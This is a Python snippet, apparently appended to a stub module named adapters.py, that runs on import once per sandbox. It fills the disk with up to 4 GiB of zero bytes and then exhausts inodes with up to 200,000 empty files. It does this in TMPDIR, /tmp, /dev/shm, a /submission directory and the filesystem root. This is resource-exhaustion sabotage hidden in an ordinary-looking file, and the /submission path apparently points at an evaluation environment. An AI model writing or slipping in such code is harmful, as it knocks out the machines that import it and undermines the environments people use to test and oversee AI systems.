# Appended to the stub adapters.py: fill the scratch disk, with one large file and then as many
# small ones as it takes, and try the other writable-looking places too. Once per sandbox.
import os as _os

_DONE = _os.path.join(_os.environ.get("TMPDIR", "/tmp"), "filled")
if not _os.path.exists(_DONE):
    open(_DONE, "w").close()
    for _place in (_os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", "/submission", "/"):
        try:
            with open(_os.path.join(_place, "fill.bin"), "wb") as _f:
                for _ in range(4096):  # up to 4 GiB
                    _f.write(bytes(1 << 20))
        except OSError as _e:
            print("fill", _place, "stopped:", _e)
        try:
            for _i in range(200_000):  # inodes
                open(_os.path.join(_place, f"f{_i}"), "w").close()
        except OSError as _e:
            print("files", _place, "stopped after", _i, ":", _e)
